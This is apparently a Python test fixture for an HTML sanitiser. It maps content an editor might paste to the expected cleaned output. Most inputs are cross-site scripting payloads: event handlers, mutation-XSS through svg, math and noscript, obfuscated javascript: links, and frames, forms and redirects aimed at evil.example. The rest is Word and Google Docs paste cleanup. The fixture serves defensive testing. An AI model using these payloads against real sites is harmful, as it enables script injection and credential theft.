"""What an editor, or somebody with an editor's password, might paste: what is stored of it."""

HOSTILE = {
    # Scripts, and all that may run one
    "<p onclick='steal()'>a</p>": "<p>a</p>",
    "<p oNcLiCk=steal()>a</p>": "<p>a</p>",
    "<script>alert(1)</script>": "",
    "<p>a<script src='https://evil.example/x.js'></script></p>": "<p>a</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>": "<p>ipt&gt;alert(1)ipt&gt;</p>",
    "<svg><script>alert(1)</script></svg>": "",
    "<svg/onload=alert(1)>": "",
    "<svg><style><img src=x onerror=alert(1)></style></svg>": "",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>": "",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>": "",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>": "",
    "<template><p onclick='steal()'>a</p></template>": "",
    "<iframe src='https://evil.example'></iframe><p>a</p>": "<p>a</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>": "",
    "<object data='/x.swf'></object><embed src='/x.swf'><p>a</p>": "<p>a</p>",
    "<video src=x onerror=alert(1)></video><p>a</p>": "<p>a</p>",
    "<details open ontoggle=alert(1)>a</details>": "<p>a</p>",
    "<marquee onstart=alert(1)>a</marquee>": "<p>a</p>",
    "<input autofocus onfocus=alert(1)><p>a</p>": "<p>a</p>",
    "<p>a</p><!--><img src=x onerror=alert(1)>-->": "<p>a</p>--&gt;",
    "<![CDATA[<script>alert(1)</script>]]><p>a</p>": "alert(1)]]&gt;<p>a</p>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>": "<p>&lt;p title=''&gt;</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">': '<p>&lt;p title=""&gt;</p>',
    "<title><a id='</title><img src=x onerror=alert(1)>'>": "<p>&lt;a id=''&gt;</p>",
    # What would change the page around the text
    "<p style='position:fixed' class='x' id='y' title='z'>a</p>": "<p>a</p>",
    "<p style='width:expression(alert(1))'>a</p>": "<p>a</p>",
    "<p style='background:url(javascript:alert(1))'>a</p>": "<p>a</p>",
    "<style>body { display: none }</style><p>a</p>": "<p>a</p>",
    "<base href='https://evil.example/'><p>a</p>": "<p>a</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><p>a</p>": "<p>a</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'><p>a</p>": "<p>a</p>",
    "<form action='https://evil.example'><input name='password'><p>a</p></form>": "<p>a</p>",
    "<button formaction='javascript:alert(1)'>a</button>": "<p>a</p>",
    "</div></main></body><p>a</p>": "<p>a</p>",
    "<h1>The only h1 is the title</h1>": "<p>The only h1 is the title</p>",
    "<p lang='bg' dir='rtl'>а</p>": '<p lang="bg">а</p>',
    "<p lang='&quot;><script>alert(1)</script>'>a</p>": "<p>a</p>",
    # Links
    "<a href='javascript:alert(1)'>a</a>": "<p>a</p>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>": "<p>a</p>",
    "<a href='java&#x09;script:alert(1)'>a</a>": "<p>a</p>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:a()'>a</a>": "<p>a</p>",
    "<a href='\x01javascript:alert(1)'>a</a>": "<p>a</p>",
    "<a href='vbscript:msgbox(1)'>a</a>": "<p>a</p>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>": "<p>a</p>",
    "<a href='file:///etc/passwd'>a</a>": "<p>a</p>",
    "<a href='//evil.example/en/news/'>a</a>": "<p>a</p>",
    "<a href=' //evil.example'>a</a>": "<p>a</p>",
    "<a href='/\\evil.example'>a</a>": "<p>a</p>",
    "<a href='\\\\evil.example'>a</a>": "<p>a</p>",
    "<a href='/&#9;/evil.example'>a</a>": "<p>a</p>",
    "<p><a href=''>a</a> <a>b</a> <a href='/c'></a>c</p>": "<p>a b c</p>",
    "<a href='/a'><table><tr><td><a>b</a></td></tr></table></a>": (
        '<a href="/a" rel="noopener"><table><tbody><tr><td>b</td></tr></tbody></table></a>'
    ),
    "<a href='/en/news/' target='_blank'>a</a>": '<a href="/en/news/" rel="noopener">a</a>',
    "<a href='https://example.org' rel='opener'>a</a>": (
        '<a href="https://example.org" rel="noopener">a</a>'
    ),
    "<a href='https://example.org' ping='https://evil.example'>a</a>": (
        '<a href="https://example.org" rel="noopener">a</a>'
    ),
    "<a href='mailto:a@example.org'>a</a>": '<a href="mailto:a@example.org" rel="noopener">a</a>',
    # Images
    "<p>a<img src='https://evil.example/pixel.gif' alt='a'></p>": "<p>a</p>",
    "<p>a<img src='x' onerror='alert(1)'></p>": "<p>a</p>",
    "<p>a<img src='data:image/svg+xml;base64,PHN2Zz4=' alt='a'></p>": "<p>a</p>",
    "<p>a<img src='file:///C:/Users/Ivan/clip_image001.png' alt='a'></p>": "<p>a</p>",
    "<p><img src='/media/a.png' alt='a' width='9' height='1e3' srcset='/b 2x'></p>": (
        '<p><img src="/media/a.png" alt="a" width="9"></p>'
    ),
    # Word, Outlook, Excel, Google Docs
    "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->"
    "<p class=MsoNormal><span lang=BG style='font-size:12.0pt'>Текст<o:p></o:p></span></p>": (
        "<p>Текст</p>"
    ),
    "<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]>"
    "<span style='mso-list:Ignore'>·</span><![endif]>a</p>": "<p>·a</p>",
    "<style><!-- p.MsoNormal {margin:0cm} --></style><p class=MsoNormal>a</p>": "<p>a</p>",
    "<b style='font-weight:normal' id='docs-internal-guid-1'><p dir='ltr'><span>a</span></p></b>": (
        "<p>a</p>"
    ),
    "<table border=0 style='width:120pt'><colgroup><col width=64></colgroup>"
    "<tr height=20><td x:num='1' class=xl65>1</td><td>2</td></tr></table>": (
        "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
    ),
    "<table><tr><td colspan='2' rowspan='x' bgcolor='red'>a</td></tr></table>": (
        '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'
    ),
    "<table><tr><td><table><tr><td>a</td></tr></table></td></tr></table>": (
        "<table><tbody><tr><td><table><tbody><tr><td>a</td></tr></tbody></table></td></tr>"
        "</tbody></table>"
    ),
    "<div class=WordSection1><p>a</p><div><p>b</p></div></div>": "<p>a</p><p>b</p>",
    "<font color=red>a</font> <center>b</center>": "<p>a b</p>",
    # Broken markup and characters
    "<!-- secret --><p>a</p>": "<p>a</p>",
    "<p>a<p>b": "<p>a</p><p>b</p>",
    "<p>a<select><p>b": "<p>a</p><p>b</p><p></p>",
    "<strong><em>a</strong>b</em>": "<strong><em>a</em></strong><em>b</em>",
    "<ul><li>a<li>b</ul></ul></li>": "<ul><li>a</li><li>b</li></ul>",
    "<p": "",
    "<p></p>": "",
    "<p><br></p><p>&nbsp;</p>": "",
    "<p>a\0b</p>": "<p>ab</p>",
    "a\0b": "<p>ab</p>",
    "\0": "",
    "<p>a\ud800b</p>": "<p>a?b</p>",
    "<p>\ufffd \u202eabc\u202c</p>": "<p>\ufffd \u202eabc\u202c</p>",
    "<blockquote>" * 60 + "a": "<blockquote>" * 60 + "a" + "</blockquote>" * 60,
    "<span>&lt;script&gt;alert(1)&lt;/script&gt;</span>": (
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    ),
}
